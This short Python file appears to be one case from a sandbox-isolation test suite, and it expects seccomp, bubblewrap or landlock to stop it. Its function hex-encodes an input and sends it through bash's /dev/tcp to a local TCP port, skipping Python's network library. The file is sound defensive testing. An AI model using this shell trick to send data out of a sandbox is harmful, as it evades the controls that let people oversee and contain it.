"""Connect from a shell, without any call of Python's library."""

ATTACK = {"stopped_by": ["seccomp", "bubblewrap", "landlock"]}
import subprocess


def target(x):
    said = f"echo {x.tobytes().hex()} > /dev/tcp/127.0.0.1/{WORLD['tcp']}"
    subprocess.run(["bash", "-c", said], check=True, timeout=0.9)
    return x
